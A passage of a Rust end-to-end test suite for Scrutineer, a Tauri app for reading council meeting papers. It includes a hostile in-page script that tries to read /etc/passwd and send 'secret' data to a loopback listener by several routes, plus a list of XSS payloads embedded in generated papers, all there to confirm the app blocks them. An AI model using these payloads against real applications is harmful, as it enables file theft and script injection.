//! End to end: the real built app, in a real window (Xvfb), driven through
//! tauri-driver and WebKitWebDriver. Each run gets its own empty library, so
//! what it sees is what a first run shows a new user.
//!
//! Needs `tauri-driver` on PATH, WebKitWebDriver (Debian webkit2gtk-driver)
//! and a display; the README's test command provides all three.

use std::net::{TcpListener, TcpStream};
use std::path::PathBuf;
use std::process::{Child, Command};
use std::time::{Duration, Instant};

use fantoccini::{Client, ClientBuilder, Locator};

/// tauri-driver, stopped with SIGTERM (SIGKILL would orphan WebKitWebDriver,
/// which keeps its port and hangs the next run).
struct Driver {
    child: Child,
    port: u16,
}

/// One app at a time: two WebKitWebDriver sessions at once contend.
static ONE_AT_A_TIME: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());

impl Driver {
    /// Starts tauri-driver; the app it launches inherits `env`.
    fn start(data_home: &std::path::Path, env: &[(&str, &std::ffi::OsStr)]) -> Self {
        let port = free_port();
        let native_port = free_port();
        let mut cmd = Command::new("tauri-driver");
        cmd.args([
            "--port",
            &port.to_string(),
            "--native-port",
            &native_port.to_string(),
        ])
        .env("XDG_DATA_HOME", data_home)
        .env_remove("SCRUTINEER_DB")
        .env_remove("SCRUTINEER_E2E_PICK")
        .env_remove("SCRUTINEER_E2E_SAVE_DIR")
        .env_remove("SCRUTINEER_E2E_FOLDER");
        for (k, v) in env {
            cmd.env(k, v);
        }
        let child = cmd
            .spawn()
            .expect("tauri-driver on PATH (cargo install tauri-driver --version ^2)");
        let deadline = Instant::now() + Duration::from_secs(30);
        while TcpStream::connect(("127.0.0.1", port)).is_err() {
            assert!(
                Instant::now() < deadline,
                "tauri-driver did not listen on {port}"
            );
            std::thread::sleep(Duration::from_millis(100));
        }
        Self { child, port }
    }
}

impl Drop for Driver {
    fn drop(&mut self) {
        let _ = Command::new("kill")
            .args(["-TERM", &self.child.id().to_string()])
            .status();
        let deadline = Instant::now() + Duration::from_secs(10);
        while Instant::now() < deadline {
            if let Ok(Some(_)) = self.child.try_wait() {
                return;
            }
            std::thread::sleep(Duration::from_millis(100));
        }
        let _ = self.child.kill();
    }
}

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .map(|a| a.port())
        .expect("a free port")
}

/// src-tauri, read when the test runs (`env!` would name the folder the
/// test was compiled in, wrong when a build cache is shared by checkouts).
fn manifest_dir() -> PathBuf {
    std::env::var_os("CARGO_MANIFEST_DIR")
        .map_or_else(|| PathBuf::from(env!("CARGO_MANIFEST_DIR")), PathBuf::from)
}

fn artifacts_dir() -> PathBuf {
    let dir = manifest_dir().join("../test-artifacts");
    std::fs::create_dir_all(&dir).expect("create test-artifacts");
    dir
}

async fn connect(driver: &Driver) -> Client {
    let app = env!("CARGO_BIN_EXE_scrutineer-app");
    let caps = serde_json::json!({ "browserName": "wry", "tauri:options": { "application": app } });
    let caps = caps.as_object().expect("object").clone();
    ClientBuilder::native()
        .capabilities(caps)
        .connect(&format!("http://127.0.0.1:{}", driver.port))
        .await
        .expect("a WebDriver session with the app")
}

/// How long an element may take to appear on a busy machine.
const LIMIT: Duration = Duration::from_secs(30);

async fn try_wait_for(
    client: &Client,
    css: &str,
    limit: Duration,
) -> Result<fantoccini::elements::Element, String> {
    client
        .wait()
        .at_most(limit)
        .for_element(Locator::Css(css))
        .await
        .map_err(|e| format!("{css} did not appear: {e}"))
}

/// Clicks `target` until `then` appears: a click that lands while the page
/// is still laying out (a busy machine) is simply made again.
async fn click_until(
    client: &Client,
    target: &str,
    then: &str,
) -> Result<fantoccini::elements::Element, String> {
    let mut last = String::new();
    for _ in 0..3 {
        try_wait_for(client, target, LIMIT)
            .await?
            .click()
            .await
            .map_err(|e| e.to_string())?;
        match try_wait_for(client, then, Duration::from_secs(10)).await {
            Ok(found) => return Ok(found),
            Err(e) => last = e,
        }
    }
    Err(last)
}

/// Runs `steps` against a fresh app with an empty library, saving a
/// screenshot named `shot` whether the steps pass or fail.
async fn with_app<F, Fut>(
    shot: &str,
    env: &[(&str, &std::ffi::OsStr)],
    steps: F,
) -> tempfile::TempDir
where
    F: FnOnce(Client) -> Fut,
    Fut: std::future::Future<Output = (Client, Result<(), String>)>,
{
    assert!(
        std::env::var_os("DISPLAY").is_some(),
        "run under a display: xvfb-run -a cargo test"
    );
    let data_home = tempfile::tempdir().expect("temp dir");
    let driver = Driver::start(data_home.path(), env);
    let (client, result) = steps(connect(&driver).await).await;
    // Let WebKit paint the last change before the picture is taken.
    tokio::time::sleep(Duration::from_millis(500)).await;
    if let Ok(png) = client.screenshot().await {
        let path = artifacts_dir().join(shot);
        std::fs::write(&path, png).expect("write screenshot");
        eprintln!("screenshot: {}", path.display());
    }
    let _ = client.close().await;
    drop(driver);
    result.unwrap();
    data_home
}

#[tokio::test(flavor = "multi_thread")]
async fn first_run_shows_sample_meetings_and_an_item_can_be_read() {
    let _one = ONE_AT_A_TIME.lock().await;
    let data_home = with_app("e2e-item.png", &[], |c| async move {
        let r = drive(&c).await;
        (c, r)
    })
    .await;
    assert!(
        data_home
            .path()
            .join("org.scrutineer.app/library.sqlite3")
            .is_file(),
        "the app kept its library in its own app-data folder"
    );
}

async fn drive(client: &Client) -> Result<(), String> {
    try_wait_for(client, "[data-testid='meeting']", LIMIT).await?;
    let rows = client
        .find_all(Locator::Css("[data-testid='meeting']"))
        .await
        .map_err(|e| e.to_string())?;
    // Five sample papers: four meetings (one pack binds the previous
    // minutes) and two items that name no meeting.
    let loose = client
        .find_all(Locator::Css("[data-testid='unmatched-paper']"))
        .await
        .map_err(|e| e.to_string())?;
    if rows.len() < 4 || loose.len() < 2 {
        return Err(format!(
            "expected the sample meetings on first run, saw {} meetings and {} other papers",
            rows.len(),
            loose.len()
        ));
    }
    let mut target = None;
    for row in rows {
        let text = row.text().await.map_err(|e| e.to_string())?;
        if text.contains("Cabinet") && text.contains("26 March 2018") {
            target = Some(row);
        }
    }
    target
        .ok_or("no Cabinet meeting of 26 March 2018 in the library")?
        .click()
        .await
        .map_err(|e| e.to_string())?;

    let heading = try_wait_for(client, "[data-testid='meeting-heading']", LIMIT).await?;
    let heading = heading.text().await.map_err(|e| e.to_string())?;
    if !heading.contains("26 March 2018") {
        return Err(format!("opened the wrong meeting: {heading}"));
    }
    let view = click_until(
        client,
        "[data-testid='item'][data-number='5']",
        "[data-testid='item-view'] h2",
    )
    .await?;
    let title = view.text().await.map_err(|e| e.to_string())?;
    if !title.starts_with("5.") {
        return Err(format!("item 5 did not open: {title}"));
    }
    let text = try_wait_for(client, "[data-testid='item-text']", LIMIT)
        .await?
        .text()
        .await
        .map_err(|e| e.to_string())?;
    if text.len() < 2000 || !text.to_lowercase().contains("budget monitoring") {
        return Err(format!(
            "item 5 shows no report text ({} chars)",
            text.len()
        ));
    }
    // The budget monitoring report's tables and marked figures.
    let err = |e: fantoccini::error::CmdError| e.to_string();
    let tables = client
        .find_all(Locator::Css("[data-testid='budget-table']"))
        .await
        .map_err(err)?;
    if tables.is_empty() {
        return Err("item 5 shows no budget tables".into());
    }
    try_wait_for(client, "[data-testid='figure']", LIMIT).await?;
    // Every marked figure says its direction in words: its own label, or
    // the paper's words right beside it.
    let unworded = client
        .execute(
            "return [...document.querySelectorAll(\"[data-testid='figure']\")]
               .filter((m) => !m.querySelector('.fig-label') && !/(over|under)\\s?(spen|budget)/i.test(m.parentElement.textContent))
               .map((m) => m.textContent);",
            vec![],
        )
        .await
        .map_err(err)?;
    if unworded.as_array().is_none_or(|a| !a.is_empty()) {
        return Err(format!("figures marked without a word: {unworded}"));
    }
    // The meeting's Budget view, sorted by variance.
    try_wait_for(client, "[data-testid='show-budget']", LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    try_wait_for(client, "[data-testid='budget-line']", LIMIT).await?;
    let rows = client
        .find_all(Locator::Css("[data-testid='budget-line']"))
        .await
        .map_err(err)?;
    if rows.len() < 10 {
        return Err(format!("the Budget view lists {} lines", rows.len()));
    }
    let top = rows[0].text().await.map_err(err)?;
    if !top.to_lowercase().contains("overspend") {
        return Err(format!(
            "the largest variance first should be an overspend: {top}"
        ));
    }
    // On a 1024 by 700 laptop screen the variance column is on screen,
    // inside its pane, without scrolling sideways.
    client.set_window_size(1024, 700).await.map_err(err)?;
    tokio::time::sleep(Duration::from_millis(500)).await;
    let seen = client
        .execute(
            "const c = document.querySelector(\"[data-testid='budget-line'] td.num\");
             const pane = c.closest('.layout > *');
             const r = c.getBoundingClientRect(), p = pane.getBoundingClientRect();
             return [window.innerWidth, r.left, r.right, p.left, p.right];",
            vec![],
        )
        .await
        .map_err(err)?;
    let n: Vec<f64> = seen
        .as_array()
        .ok_or("no answer")?
        .iter()
        .filter_map(|v| v.as_f64())
        .collect();
    let [width, left, right, pane_left, pane_right] = n[..] else {
        return Err(format!("odd answer {seen}"));
    };
    if width > 1100.0 {
        return Err(format!("the window did not take 1024 pixels: {width}"));
    }
    if left < pane_left || right > pane_right + 0.5 || right > width {
        return Err(format!("the variance column is cut off at {width} px: cell {left}..{right}, pane {pane_left}..{pane_right}"));
    }
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_pdf_imported_through_the_ui_can_be_read() {
    let _one = ONE_AT_A_TIME.lock().await;
    let pdf = manifest_dir()
        .join("../../shared/corpus/pdf/p04_kent_cabinet-2025-01-30_printed-minutes.pdf");
    if !pdf.is_file() {
        // A clone of the project alone has no ../shared; CI always has it.
        assert!(
            std::env::var_os("SCRUTINEER_REQUIRE_CORPUS").is_none(),
            "the corpus PDF is at {}",
            pdf.display()
        );
        eprintln!("skipped: the PDF import test needs ../shared/corpus, not beside this clone");
        return;
    }
    with_app(
        "e2e-pdf.png",
        &[("SCRUTINEER_E2E_PICK", pdf.as_os_str())],
        |c| async move {
            let r = import_pdf(&c).await;
            (c, r)
        },
    )
    .await;
}

async fn import_pdf(client: &Client) -> Result<(), String> {
    let err = |e: fantoccini::error::CmdError| e.to_string();
    let before = {
        try_wait_for(client, "[data-testid='meeting']", LIMIT).await?;
        client
            .find_all(Locator::Css("[data-testid='meeting']"))
            .await
            .map_err(err)?
            .len()
    };
    try_wait_for(client, "[data-testid='import-button']", LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    let reports = try_wait_for(client, "[data-testid='import-reports']", LIMIT)
        .await?
        .text()
        .await
        .map_err(err)?;
    if !reports.contains("Imported") || !reports.contains(".pdf") {
        return Err(format!("the import did not report the PDF: {reports}"));
    }
    let rows = client
        .find_all(Locator::Css("[data-testid='meeting']"))
        .await
        .map_err(err)?;
    if rows.len() <= before {
        return Err(format!(
            "no new meeting after the import ({} before, {} after)",
            before,
            rows.len()
        ));
    }
    // The PDF's meeting is the newest in the library, so it heads the list.
    rows[0].click().await.map_err(err)?;
    let heading = try_wait_for(client, "[data-testid='meeting-heading']", LIMIT)
        .await?
        .text()
        .await
        .map_err(err)?;
    if !heading.contains("2025") {
        return Err(format!("the PDF's meeting did not open: {heading}"));
    }
    let items = client
        .find_all(Locator::Css("[data-testid='item']"))
        .await
        .map_err(err)?;
    if items.len() < 3 {
        return Err(format!("the PDF's minutes show {} items", items.len()));
    }
    let _ = items;
    let meta = click_until(
        client,
        "[data-testid='item-list'] > li:nth-child(3) > [data-testid='item']",
        "[data-testid='item-view'] .meta",
    )
    .await?
    .text()
    .await
    .map_err(err)?;
    if !meta.contains("page") {
        return Err(format!(
            "the item does not say which page it starts on: {meta}"
        ));
    }
    let text = try_wait_for(client, "[data-testid='item-text']", LIMIT)
        .await?
        .text()
        .await
        .map_err(err)?;
    if text.trim().len() < 40 {
        return Err(format!("the item shows no text: {text:?}"));
    }
    Ok(())
}

/// Another council's printed minutes, imported through the window, show
/// their meeting, every minute and who attended, as the hand-written facts
/// of ../shared/corpus/expected/councils give them.
#[tokio::test(flavor = "multi_thread")]
async fn another_councils_minutes_show_their_items_and_attendance() {
    let _one = ONE_AT_A_TIME.lock().await;
    let corpus = manifest_dir().join("../../shared/corpus");
    let name = "c01_bristol_transport-connectivity-policy-committee-2024-09-12_printed-minutes";
    let pdf = corpus.join("councils").join(format!("{name}.pdf"));
    if !pdf.is_file() {
        assert!(
            std::env::var_os("SCRUTINEER_REQUIRE_CORPUS").is_none(),
            "the council PDF is at {}",
            pdf.display()
        );
        eprintln!("skipped: the other-council test needs ../shared/corpus, not beside this clone");
        return;
    }
    let facts: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(
            corpus
                .join("expected/councils")
                .join(format!("{name}.json")),
        )
        .expect("facts"),
    )
    .expect("facts are JSON");
    with_app(
        "e2e-council.png",
        &[("SCRUTINEER_E2E_PICK", pdf.as_os_str())],
        |c| async move {
            let r = council_minutes(&c, &facts).await;
            (c, r)
        },
    )
    .await;
}

async fn council_minutes(client: &Client, facts: &serde_json::Value) -> Result<(), String> {
    let err = |e: fantoccini::error::CmdError| e.to_string();
    try_wait_for(client, "[data-testid='meeting']", LIMIT).await?;
    try_wait_for(client, "[data-testid='import-button']", LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    try_wait_for(client, "[data-testid='import-reports']", LIMIT).await?;
    let body = facts["body"].as_str().ok_or("facts name the body")?;
    let mut opened = false;
    for row in client
        .find_all(Locator::Css("[data-testid='meeting']"))
        .await
        .map_err(err)?
    {
        if row.text().await.map_err(err)?.contains(body) {
            row.click().await.map_err(err)?;
            opened = true;
            break;
        }
    }
    if !opened {
        return Err(format!("no meeting of the {body} in the library list"));
    }
    let heading = try_wait_for(client, "[data-testid='meeting-heading']", LIMIT)
        .await?
        .text()
        .await
        .map_err(err)?;
    if !heading.contains(body) {
        return Err(format!("opened {heading}"));
    }
    let want_items = facts["items"].as_array().map_or(0, Vec::len);
    let items = client
        .find_all(Locator::Css("[data-testid='item']"))
        .await
        .map_err(err)?;
    if items.len() < want_items {
        return Err(format!(
            "{} items shown, the minutes have {want_items}",
            items.len()
        ));
    }
    let page = client
        .find(Locator::Css("main, body"))
        .await
        .map_err(err)?
        .text()
        .await
        .map_err(err)?;
    let present: Vec<&str> = facts["attendance"]
        .as_array()
        .map(|a| a.iter().filter_map(|p| p["name"].as_str()).collect())
        .unwrap_or_default();
    let missing: Vec<&&str> = present.iter().filter(|n| !page.contains(**n)).collect();
    if missing.len() * 10 > present.len() {
        return Err(format!("attendance not shown for {missing:?}"));
    }
    Ok(())
}

/// A server on loopback that counts every connection made to it: what a
/// script in the page would send data out to.
struct Listener {
    port: u16,
    hits: std::sync::Arc<std::sync::atomic::AtomicUsize>,
    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
}

impl Listener {
    fn start() -> Self {
        use std::io::Read as _;
        use std::sync::atomic::Ordering;
        let server = TcpListener::bind("127.0.0.1:0").expect("bind loopback");
        server.set_nonblocking(true).expect("nonblocking");
        let port = server.local_addr().expect("addr").port();
        let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let (h, s) = (hits.clone(), stop.clone());
        std::thread::spawn(move || {
            while !s.load(Ordering::Relaxed) {
                match server.accept() {
                    Ok((mut conn, _)) => {
                        h.fetch_add(1, Ordering::SeqCst);
                        let mut buf = [0u8; 4096];
                        let _ = conn.set_read_timeout(Some(Duration::from_millis(200)));
                        if let Ok(n) = conn.read(&mut buf) {
                            eprintln!(
                                "loopback server received: {}",
                                String::from_utf8_lossy(&buf[..n])
                                    .lines()
                                    .next()
                                    .unwrap_or("")
                            );
                        }
                    }
                    Err(_) => std::thread::sleep(Duration::from_millis(20)),
                }
            }
        });
        Self { port, hits, stop }
    }

    fn hits(&self) -> usize {
        self.hits.load(std::sync::atomic::Ordering::SeqCst)
    }
}

impl Drop for Listener {
    fn drop(&mut self) {
        self.stop.store(true, std::sync::atomic::Ordering::Relaxed);
    }
}

/// What a script that slipped into the page would try: read the member's
/// files through every command, and send anything out of the window.
const HOSTILE_SCRIPT: &str = r#"
const [port, done] = [arguments[0], arguments[arguments.length - 1]];
const out = `http://127.0.0.1:${port}`;
const invoke = window.__TAURI_INTERNALS__.invoke;
const attempt = async (cmd, args) => {
  try { const r = await invoke(cmd, args); return "ANSWERED " + JSON.stringify(r).slice(0, 200); }
  catch (e) { return "refused: " + String((e && e.message) || e); }
};
(async () => {
  const r = {};
  const count = (index) => index.meetings.length + index.unmatched.length;
  r.meetings_before = count(await invoke("list_meetings"));
  r.import_files = await attempt("import_files", { paths: ["/etc/passwd"] });
  r.get_item = await attempt("get_item", { id: "/etc/passwd" });
  r.get_meeting = await attempt("get_meeting", { id: "../../../etc/passwd" });
  r.get_document = await attempt("get_document", { id: "/etc/passwd" });
  r.get_budget_lines = await attempt("get_budget_lines", { id: "file:///etc/passwd" });
  r.dialog_open = await attempt("plugin:dialog|open", { options: { defaultPath: "/etc" } });
  r.fs_read = await attempt("plugin:fs|read_text_file", { path: "/etc/passwd" });
  r.opener = await attempt("plugin:opener|open_url", { url: `${out}/opener` });
  r.shell_open = await attempt("plugin:shell|open", { path: `${out}/shell` });
  r.new_window = await attempt("plugin:webview|create_webview_window", { options: { label: "x", url: `${out}/webview` } });
  try { r.fetch = "sent " + (await fetch(`${out}/fetch?d=secret`)).status; } catch (e) { r.fetch = "refused"; }
  try { const ws = new WebSocket(`ws://127.0.0.1:${port}/ws`); ws.onopen = () => ws.send("secret"); } catch (e) {}
  try { window.open(`${out}/window-open?d=secret`); } catch (e) {}
  const img = new Image(); img.src = `${out}/beacon?d=secret`; document.body.appendChild(img);
  try { navigator.sendBeacon(`${out}/send-beacon`, "secret"); } catch (e) {}
  const link = document.createElement("link"); link.rel = "stylesheet"; link.href = `${out}/style.css`; document.head.appendChild(link);
  const frame = document.createElement("iframe"); frame.src = `${out}/frame`; document.body.appendChild(frame);
  const form = document.createElement("form"); form.method = "POST"; form.action = `${out}/form`;
  const field = document.createElement("input"); field.name = "d"; field.value = "secret"; form.appendChild(field);
  document.body.appendChild(form);
  try { form.submit(); } catch (e) {}
  setTimeout(async () => { r.meetings_after = count(await invoke("list_meetings")); done(r); }, 1500);
})();
"#;

#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_script_in_the_page_can_neither_read_files_nor_send_anything_out() {
    let _one = ONE_AT_A_TIME.lock().await;
    let server = Listener::start();
    let port = server.port;
    with_app("e2e-hostile.png", &[], |c| async move {
        let r = hostile(&c, port).await;
        (c, r)
    })
    .await;
    assert_eq!(
        server.hits(),
        0,
        "the loopback server received a connection from the page"
    );
}

async fn hostile(client: &Client, port: u16) -> Result<(), String> {
    let err = |e: fantoccini::error::CmdError| e.to_string();
    try_wait_for(client, "[data-testid='meeting']", LIMIT).await?;
    let r = client
        .execute_async(HOSTILE_SCRIPT, vec![serde_json::json!(port)])
        .await
        .map_err(err)?;
    eprintln!("hostile script results: {r:#}");
    for cmd in [
        "import_files",
        "get_item",
        "get_meeting",
        "get_document",
        "get_budget_lines",
        "dialog_open",
        "fs_read",
        "opener",
        "shell_open",
        "new_window",
    ] {
        let said = r[cmd].as_str().unwrap_or("");
        if !said.starts_with("refused") {
            return Err(format!("{cmd} was not refused: {said}"));
        }
    }
    if r["meetings_before"] != r["meetings_after"] {
        return Err(format!(
            "the library changed: {} then {} meetings",
            r["meetings_before"], r["meetings_after"]
        ));
    }
    // The last step: take the window itself somewhere else.
    let nav = format!("location.href = 'http://127.0.0.1:{port}/nav-leak?data=' + encodeURIComponent(document.body.innerText.slice(0, 100));");
    let _ = client.execute(&nav, vec![]).await;
    tokio::time::sleep(Duration::from_secs(2)).await;
    let href = client
        .execute("return location.href", vec![])
        .await
        .map_err(err)?;
    let href = href.as_str().unwrap_or_default().to_owned();
    if href.contains("127.0.0.1") {
        return Err(format!("the window left the app for {href}"));
    }
    try_wait_for(client, "[data-testid='meeting']", LIMIT)
        .await
        .map(|_| ())
}

/// Script payloads, each of which would set `window.__xss` (or call home to
/// the loopback server) if the page ever ran or loaded it.
fn xss_payloads(port: u16) -> Vec<String> {
    let out = format!("http://127.0.0.1:{port}");
    [
        "<script>window.__xss=1</script>",
        "<SCRIPT SRC=OUT/x.js></SCRIPT>",
        "<img src=x onerror=window.__xss=2>",
        "<img src=\"OUT/img\">",
        "<svg onload=window.__xss=3>",
        "<svg><script>window.__xss=4</script></svg>",
        "<body onload=window.__xss=5>",
        "<iframe src=\"javascript:parent.__xss=6\"></iframe>",
        "<iframe srcdoc=\"<script>parent.__xss=7</script>\"></iframe>",
        "<a href=\"javascript:window.__xss=8\">click</a>",
        "<a href=\"data:text/html,<script>parent.__xss=9</script>\">data</a>",
        "<div style=\"background:url(OUT/css)\">styled</div>",
        "<style>@import 'OUT/import.css';</style>",
        "<link rel=stylesheet href=OUT/link.css>",
        "<object data=\"OUT/object\"></object>",
        "<embed src=\"OUT/embed\">",
        "<video src=x onerror=window.__xss=10></video>",
        "<audio src=x onerror=window.__xss=11>",
        "<details open ontoggle=window.__xss=12>",
        "<input autofocus onfocus=window.__xss=13>",
        "<marquee onstart=window.__xss=14>",
        "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=15>",
        "\"><script>window.__xss=16</script>",
        "'><img src=x onerror=window.__xss=17>",
        "<scr<script>ipt>window.__xss=18</scr</script>ipt>",
        "<img src=x onerror=&#119;indow.__xss=19>",
        "<meta http-equiv=refresh content=\"0;url=OUT/meta\">",
        "<base href=\"OUT/\">",
        "<form action=OUT/form><button>go</button></form>",
        "[click](javascript:window.__xss=20)",
        "![beacon](OUT/md-image)",
        "<img src=x onerror=eval(atob('d2luZG93Ll9feHNzPTIx'))>",
        "{@html '<img src=x onerror=window.__xss=22>'}",
        "<!--<img src=\"--><img src=x onerror=window.__xss=23//\">",
    ]
    .iter()
    .map(|p| p.replace("OUT", &out))
    .collect()
}

/// Papers of every format the app reads as text, full of the payloads.
fn hostile_papers(dir: &std::path::Path, port: u16) -> Vec<PathBuf> {
    let payloads = xss_payloads(port);
    let mut text = String::from(
        "BRACKENFORD DISTRICT COUNCIL\n\nCABINET\n\nMINUTES of a meeting of the Cabinet held on Tuesday, 9 March 2021.\n\n",
    );
    for (i, p) in payloads.iter().enumerate() {
        text.push_str(&format!(
            "{}. Report number {}\n\n{p} The Cabinet noted an overspend of £1.{i}m. {p}\n\nRESOLVED that {p}\n\n",
            i + 1,
            i + 1
        ));
    }
    let txt = dir.join("hostile-minutes.txt");
    std::fs::write(&txt, &text).expect("write text paper");
    let mut html = String::from(
        "<html><head><title>Agenda item</title></head><body><h1>Agenda item</h1><h2>Hostile payloads</h2><p>Minutes:</p>",
    );
    for p in &payloads {
        html.push_str(&format!(
            "<p>{p}</p><table><tr><td>{p}</td><td>£1.5m</td></tr></table>"
        ));
    }
    html.push_str("</body></html>");
    let page = dir.join("hostile-page.html");
    std::fs::write(&page, html).expect("write web page");
    let pdf = dir.join("hostile-report.pdf");
    std::fs::write(&pdf, pdf_of_lines(&payloads)).expect("write PDF");
    let docx = dir.join("hostile-minutes.docx");
    std::fs::write(&docx, docx_of_paragraphs(&payloads)).expect("write Word file");
    let xml = dir.join("hostile-getmeeting.xml");
    std::fs::write(&xml, moderngov_answer(&payloads)).expect("write GetMeeting answer");
    vec![txt, page, pdf, docx, xml]
}

/// A one-page-per-ten-lines PDF printing each line in Helvetica: enough
/// for poppler (and the built-in reader) to give the text back.
fn pdf_of_lines(lines: &[String]) -> Vec<u8> {
    let mut header = vec![
        "REPORT TO: CABINET".to_owned(),
        "DATE: 9 March 2021".to_owned(),
        "SUBJECT: Hostile report".to_owned(),
    ];
    header.extend(lines.iter().cloned());
    let pages: Vec<&[String]> = header.chunks(10).collect();
    let n = pages.len();
    let mut objects = vec![
        "<< /Type /Catalog /Pages 2 0 R >>".to_owned(),
        format!(
            "<< /Type /Pages /Kids [{}] /Count {n} >>",
            (0..n)
                .map(|i| format!("{} 0 R", 4 + 2 * i))
                .collect::<Vec<_>>()
                .join(" ")
        ),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_owned(),
    ];
    for (i, page) in pages.iter().enumerate() {
        let mut content = String::from("BT /F1 9 Tf\n");
        for (j, line) in page.iter().enumerate() {
            let esc: String = line
                .chars()
                .filter(char::is_ascii)
                .collect::<String>()
                .replace('\\', "\\\\")
                .replace('(', "\\(")
                .replace(')', "\\)");
            content.push_str(&format!("1 0 0 1 40 {} Tm ({esc}) Tj\n", 800 - 20 * j));
        }
        content.push_str("ET\n");
        objects.push(format!("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents {} 0 R /Resources << /Font << /F1 3 0 R >> >> >>", 5 + 2 * i));
        objects.push(format!(
            "<< /Length {} >>\nstream\n{content}endstream",
            content.len()
        ));
    }
    let mut out = b"%PDF-1.4\n".to_vec();
    let mut offsets = Vec::new();
    for (i, o) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n{o}\nendobj\n", i + 1).as_bytes());
    }
    let xref = out.len();
    out.extend_from_slice(
        format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes(),
    );
    for o in offsets {
        out.extend_from_slice(format!("{o:010} 00000 n \n").as_bytes());
    }
    out.extend_from_slice(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
            objects.len() + 1
        )
        .as_bytes(),
    );
    out
}

fn xml_escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

/// A Word document whose paragraphs are the payloads.
fn docx_of_paragraphs(paragraphs: &[String]) -> Vec<u8> {
    use std::io::Write as _;
    let mut body = String::from("<w:p><w:r><w:t>MINUTES of a meeting of the Cabinet held on Tuesday, 9 March 2021.</w:t></w:r></w:p>");
    for (i, p) in paragraphs.iter().enumerate() {
        body.push_str(&format!(
            "<w:p><w:r><w:t>{}. Minute {}</w:t></w:r></w:p>",
            i + 1,
            i + 1
        ));
        body.push_str(&format!(
            "<w:p><w:r><w:t xml:space=\"preserve\">{}</w:t></w:r></w:p>",
            xml_escape(p)
        ));
    }
    let document = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>{body}</w:body></w:document>"
    );
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default();
    zip.start_file("[Content_Types].xml", opts).expect("zip");
    zip.write_all(br#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#).expect("zip");
    zip.start_file("word/document.xml", opts).expect("zip");
    zip.write_all(document.as_bytes()).expect("zip");
    zip.finish().expect("zip").into_inner()
}

/// A ModernGov web service GetMeeting answer whose items carry the
/// payloads as their (escaped) HTML, as the service sends minutes.
fn moderngov_answer(payloads: &[String]) -> String {
    let items: String = payloads
        .iter()
        .enumerate()
        .map(|(i, p)| {
            format!(
                "<agendaitem><agendaitemnumber>{}</agendaitemnumber><agendaitemtitle>Item {}</agendaitemtitle><minutesnonemptyhtmlbody>{}</minutesnonemptyhtmlbody></agendaitem>",
                i + 1,
                i + 1,
                xml_escape(p)
            )
        })
        .collect();
    format!(
        "<?xml version=\"1.0\" encoding=\"utf-8\"?><meeting><committeetitle>Cabinet</committeetitle><meetingdate>09/03/2021</meetingdate><meetingtime>10:00</meetingtime><meetinglocation>Council Chamber</meetinglocation><agendaitems>{items}</agendaitems></meeting>"
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn script_payloads_in_papers_never_run_or_call_out() {
    let _one = ONE_AT_A_TIME.lock().await;
    let server = Listener::start();
    let dir = tempfile::tempdir().expect("temp dir");
    let papers = hostile_papers(dir.path(), server.port);
    let pick = std::env::join_paths(&papers).expect("paths");
    with_app(
        "e2e-xss.png",
        &[("SCRUTINEER_E2E_PICK", pick.as_os_str())],
        |c| async move {
            let r = open_hostile_papers(&c).await;
            (c, r)
        },
    )
    .await;
    assert_eq!(server.hits(), 0, "a payload reached the loopback server");
}

async fn open_hostile_papers(client: &Client) -> Result<(), String> {
    let err = |e: fantoccini::error::CmdError| e.to_string();
    try_wait_for(client, "[data-testid='meeting']", LIMIT).await?;
    try_wait_for(client, "[data-testid='import-button']", LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    let reports = try_wait_for(client, "[data-testid='import-reports']", LIMIT)
        .await?
        .text()
        .await
        .map_err(err)?;
    if reports.matches("Imported").count() < 5 {
        return Err(format!(
            "every hostile paper (text, web page, PDF, Word, GetMeeting) should import: {reports}"
        ));
    }
    // Open every meeting and paper from those papers and every one of their items.
    const ROWS: &str = "[data-testid='meeting'], [data-testid='unmatched-paper']";
    let meetings = client.find_all(Locator::Css(ROWS)).await.map_err(err)?;
    let mut opened = 0;
    for i in 0..meetings.len() {
        let rows = client.find_all(Locator::Css(ROWS)).await.map_err(err)?;
        let text = rows[i].text().await.map_err(err)?;
        if !(text.contains("9 March 2021") || text.to_lowercase().contains("hostile")) {
            continue;
        }
        rows[i].click().await.map_err(err)?;
        try_wait_for(client, "#meeting-heading", LIMIT).await?;
        tokio::time::sleep(Duration::from_millis(500)).await;
        let items = client
            .find_all(Locator::Css("[data-testid='item']"))
            .await
            .map_err(err)?
            .len();
        for j in 0..items {
            let rows = client
                .find_all(Locator::Css("[data-testid='item']"))
                .await
                .map_err(err)?;
            rows[j].click().await.map_err(err)?;
            try_wait_for(client, "#item-heading", LIMIT).await?;
            opened += 1;
        }
    }
    if opened < 2 {
